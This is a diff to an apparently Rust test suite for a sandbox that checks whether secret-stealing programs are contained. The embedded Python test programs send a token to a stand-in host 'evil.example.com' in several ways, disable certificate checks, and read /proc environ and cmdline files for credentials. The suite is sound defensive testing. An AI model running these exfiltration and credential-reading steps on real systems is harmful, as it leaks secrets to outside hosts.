@@ -68,7 +68,6 @@ fn in_world(attack: Attack) -> Attack {
             WORLD.iter().for_each(|(file, text)| scene.write(Path::new("elsewhere/world").join(file), text));
             scene.set("WORLD", scene.path("elsewhere/world"));
             scene.set("FROM", scene.path("home/project"));
-            scene.set("KEY", scene.secret());
         })
         .launcher(r#"exec bash "$WORLD/enter.sh" "$@""#)
 }
@@ -223,7 +222,7 @@ for kind in 16, 1, 28, 255, 10, 5, 15, 33, 65, 12:
 ";
     let leaves = |scene: &Scene| scene.read(LOG).contains(scene.secret()).then(|| "a secret left by DNS".into());
     if let Some(attack) = reaches("nobody", program) {
-        attack.harm(leaves).flags(ONE_HOST).is_contained();
+        attack.before(|scene| scene.set("KEY", scene.secret())).harm(leaves).flags(ONE_HOST).is_contained();
     }
 }
 
@@ -307,4 +306,80 @@ for number in range(3000):
         held.pop(0).close()
 ";
     is_contained(reaches(" evil ", program), ONE_HOST);
+}
+
+// ---- secrets ----
+
+/// A secret that may go to one host only.
+const SECRET: &str = "[network]
+mode = 'rules'
+allow = ['api.example.com', 'evil.example.com']
+[secrets.token]
+from = { env = 'TOKEN' }
+hosts = ['api.example.com']
+in = 'header:Authorization'
+";
+
+/// Does something with `TOKEN`, through connections whose certificates nobody looks at. Harm: the value is inside, or at
+/// another host than its own.
+fn takes_the_secret(program: &str) -> Option<Attack> {
+    let tools = r#"
+import base64, http.client, ssl
+TOKEN = E["TOKEN"]
+
+def ask(host, path="/", secure=True, method="GET", body=None, **headers):
+    unverified = ssl._create_unverified_context()
+    c = http.client.HTTPSConnection(host, timeout=3, context=unverified) if secure else http.client.HTTPConnection(host, timeout=3)
+    c.request(method, path, body, headers)
+    return c.getresponse().read()
+"#;
+    let strayed = |scene: &Scene| {
+        let log = scene.read(LOG);
+        let line = log.lines().find(|line| line.contains(" evil ") && line.contains(scene.secret()))?;
+        Some(format!("the secret went astray: {line}"))
+    };
+    let attack = reaches("nobody", &format!("{tools}\n{program}"))?;
+    Some(attack.harm(strayed).robs().flags("--policy $OUTSIDE/rules.toml").before(|scene| {
+        scene.write("elsewhere/rules.toml", SECRET);
+        scene.set_for_caller("TOKEN", scene.secret());
+    }))
+}
+
+#[test]
+fn a_secret_is_read_from_the_environment() {
+    takes_the_secret("loot(TOKEN)").iter().for_each(Attack::is_contained);
+}
+
+#[test]
+fn a_secret_is_sent_to_another_host() {
+    let program = "
+for secure in True, False:
+    attempt(ask, 'evil.example.com', secure=secure, Authorization=TOKEN)
+    attempt(ask, 'evil.example.com', '/?key=' + TOKEN, secure=secure)
+    attempt(ask, 'evil.example.com', secure=secure, method='POST', body=TOKEN)
+    attempt(ask, 'evil.example.com', secure=secure, Authorization='Basic ' + base64.b64encode(b'user:' + TOKEN.encode()).decode())
+    attempt(ask, 'api.example.com', secure=secure, Authorization=TOKEN, Host='evil.example.com')
+";
+    takes_the_secret(program).iter().for_each(Attack::is_contained);
+}
+
+#[test]
+fn a_secret_comes_back_in_an_answer() {
+    let program = "
+attempt(lambda: loot(ask('api.example.com', '/echo', Authorization='Bearer ' + TOKEN)))
+attempt(lambda: loot(ask('api.example.com', '/echo', Authorization=TOKEN)))
+attempt(lambda: loot(ask('api.example.com', '/echo', secure=False, Authorization=TOKEN)))
+";
+    takes_the_secret(program).iter().for_each(Attack::is_contained);
+}
+
+#[test]
+fn the_memory_of_the_gate_is_read() {
+    // Whoever is not in a process table of his own finds it among the processes of the user.
+    let program = "
+for pid in filter(str.isdigit, os.listdir('/proc')):
+    for file in 'environ', 'cmdline':
+        attempt(steal, f'/proc/{pid}/{file}')
+";
+    takes_the_secret(program).iter().for_each(Attack::is_contained);
 }
